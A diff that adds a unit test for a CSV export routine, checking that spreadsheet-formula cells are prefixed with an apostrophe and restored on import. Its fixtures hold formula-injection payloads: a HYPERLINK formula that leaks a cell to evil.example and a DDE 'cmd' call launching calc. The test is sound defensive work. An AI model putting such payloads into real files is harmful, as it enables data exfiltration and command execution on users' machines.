@@ -511,6 +511,31 @@ describe('dossiersCsv', () => {
     expect(contacts.map((contact) => contact.source).slice(0, 3)).toEqual(['line 2', 'line 6', 'line 8']);
   });
 
+  it('puts an apostrophe before a cell a spreadsheet would run as a formula, and takes it off on the way back in', () => {
+    const typed = {
+      name: '=HYPERLINK("http://evil.example/?"&A1,"Anna")',
+      company: "=cmd|' /C calc'!A0",
+      position: '@SUM(1+1)*cmd|x',
+      phone: '+48 601 234 567',
+      notes: '- call back\n- send the catalogue',
+      tags: "'=already quoted",
+      preferences: '+1 (555) 010-0199',
+      address: "'-'",
+    };
+    const text = dossiersCsv([dossier('acme', typed)], false);
+    const cells = text.trimEnd().split(',');
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Anna"")"`);
+    expect(cells).toContain("'=cmd|' /C calc'!A0");
+    expect(cells).toContain("'@SUM(1+1)*cmd|x");
+    expect(cells).toContain('+48 601 234 567'); // a phone number is no formula: left as it is
+    expect(text).toContain(`"'- call back\n- send the catalogue"`);
+    expect(cells).toContain("''=already quoted");
+    expect(cells).toContain('+1 (555) 010-0199');
+    expect(cells).toContain("''-'");
+    const [contact] = readContactsCsv(dossiersCsv([dossier('acme', typed)], true)).contacts;
+    expect(contact?.card).toMatchObject(typed);
+  });
+
   it('reads back a note typed with CR LF as LF', () => {
     const [contact] = readContactsCsv(dossiersCsv([dossier('x', { name: 'X', notes: 'one\r\ntwo' })], true)).contacts;
     expect(contact?.card.notes).toBe('one\ntwo');
